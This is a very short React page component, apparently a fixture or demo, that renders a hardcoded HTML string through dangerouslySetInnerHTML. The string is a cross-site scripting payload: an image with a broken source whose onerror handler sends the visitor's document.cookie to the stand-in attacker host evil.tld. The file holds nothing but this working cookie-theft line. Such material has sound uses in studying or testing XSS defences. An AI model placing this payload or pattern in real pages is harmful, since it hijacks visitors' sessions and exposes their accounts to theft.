export default function Page() {
  return <div dangerouslySetInnerHTML={{ __html: '<img src=x onerror="new Image().src=\'//evil.tld/?\'+document.cookie">' }} />;
}
